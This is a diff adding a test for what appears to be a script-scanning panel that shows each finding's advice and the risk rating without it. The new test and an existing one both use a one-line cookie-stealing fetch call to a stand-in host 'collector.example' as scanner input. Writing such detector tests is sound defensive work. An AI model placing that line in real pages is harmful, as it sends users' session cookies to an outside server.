@@ -61,6 +61,20 @@ it("says the verdict with the path of an attack, folds the other findings, and s
 	expect(panel().querySelector("[aria-label='The path of the data']")).toBeNull();
 });
 
+it("shows for each finding what to change, and the level without it", () => {
+	const settled = rated('fetch("https://collector.example/?" + document.cookie);');
+	if (settled?.status !== "checked") throw new Error("not checked");
+	const [finding] = settled.result.vulnerabilities;
+	if (!finding) throw new Error("nothing found");
+	const vulnerabilities = [finding, { ...finding, severity: "medium" as const, advice: "Ask first." }];
+	show({ ...settled, result: { ...settled.result, vulnerabilities } });
+	const [grave, mild] = panel().querySelectorAll("ol > li");
+	expect(grave?.textContent).toContain(`What to change: ${finding.advice}`);
+	expect(grave?.textContent).toContain("Without this finding the script would be rated Medium Risk.");
+	expect(mild?.textContent).toContain("What to change: Ask first.");
+	expect(mild?.textContent).toContain("Without this finding the script would still be rated High Risk");
+});
+
 it("asks the assistant about one finding, by its rule, severity and line", () => {
 	const { onAsk } = show(rated('const all = 1;\nfetch("https://collector.example/?" + document.cookie);'));
 	fireEvent.click(within(panel()).getByRole("button", { name: "Explain this: Cookie exfiltration, line 2" }));
